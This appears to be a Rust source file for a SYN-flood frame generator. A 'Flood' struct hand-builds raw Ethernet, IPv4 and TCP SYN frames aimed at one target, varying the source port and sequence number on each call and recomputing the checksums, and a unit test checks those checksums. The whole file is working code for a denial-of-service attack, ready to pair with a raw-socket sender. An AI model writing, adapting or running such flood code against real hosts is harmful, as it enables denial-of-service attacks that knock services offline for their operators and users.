//! Connection attempts without a connection: bare SYNs.
use std::net::{Ipv4Addr, SocketAddrV4};

/// Frames with SYNs from one source to one address, each from another port and with another sequence number than the last.
#[derive(Debug)]
pub struct Flood {
    frame: [u8; FRAME],
    sent: u32,
}

const ETHERNET: usize = 14;
const IP: usize = 20;
const TCP: usize = 20;
const FRAME: usize = ETHERNET + IP + TCP;

impl Flood {
    /// To an interface with this hardware address.
    pub fn new(hardware: [u8; 6], source: Ipv4Addr, target: SocketAddrV4) -> Self {
        const SYN_FLAG: u8 = 2;
        let mut frame = [0; FRAME];
        frame[0..6].copy_from_slice(&hardware);
        // A locally administered address, then the type of IPv4.
        frame[6..14].copy_from_slice(&[2, 0, 0, 0, 0, 99, 8, 0]);
        let ip = &mut frame[ETHERNET..];
        // Version and length in words, then the total length, the time to live and the protocol (RFC 791 section 3.1).
        (ip[0], ip[3], ip[8], ip[9]) = (0x45, (IP + TCP) as u8, 64, 6);
        ip[12..16].copy_from_slice(&source.octets());
        ip[16..20].copy_from_slice(&target.ip().octets());
        let sum = checksum(&ip[..IP]);
        ip[10..12].copy_from_slice(&sum);
        let tcp = &mut frame[ETHERNET + IP..];
        tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
        // The header's length in words, the flags, and the window (RFC 9293 section 3.1).
        (tcp[12], tcp[13], tcp[14]) = (5 << 4, SYN_FLAG, 0xff);
        Self { frame, sent: 0 }
    }

    /// The next frame.
    pub fn frame(&mut self) -> &[u8] {
        self.sent = self.sent.wrapping_add(1);
        let port = 1024 + (self.sent % 60_000) as u16;
        let tcp = &mut self.frame[ETHERNET + IP..];
        tcp[0..2].copy_from_slice(&port.to_be_bytes());
        tcp[4..8].copy_from_slice(&self.sent.to_be_bytes());
        tcp[16..18].fill(0);
        let sum = self.tcp_checksum();
        self.frame[ETHERNET + IP + 16..][..2].copy_from_slice(&sum);
        &self.frame
    }

    /// Over the addresses, the protocol, the segment's length, and the segment.
    fn tcp_checksum(&self) -> [u8; 2] {
        let mut bytes = [0; 12 + TCP];
        bytes[..8].copy_from_slice(&self.frame[ETHERNET + 12..ETHERNET + IP]);
        (bytes[9], bytes[11]) = (6, TCP as u8);
        bytes[12..].copy_from_slice(&self.frame[ETHERNET + IP..]);
        checksum(&bytes)
    }
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: &[u8]) -> [u8; 2] {
    let words = bytes
        .chunks_exact(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1]));
    let sum: u32 = words.sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    (!((folded & 0xffff) + (folded >> 16)) as u16).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_receiver_sums_up_is_zero() {
        let target = SocketAddrV4::new([198, 51, 100, 7].into(), 80);
        let mut flood = Flood::new([2, 0, 0, 0, 0, 1], [192, 0, 2, 1].into(), target);
        for _ in 0..3 {
            flood.frame();
            assert_eq!(checksum(&flood.frame[ETHERNET..ETHERNET + IP]), [0, 0]);
            assert_eq!(flood.tcp_checksum(), [0, 0]);
        }
    }
}
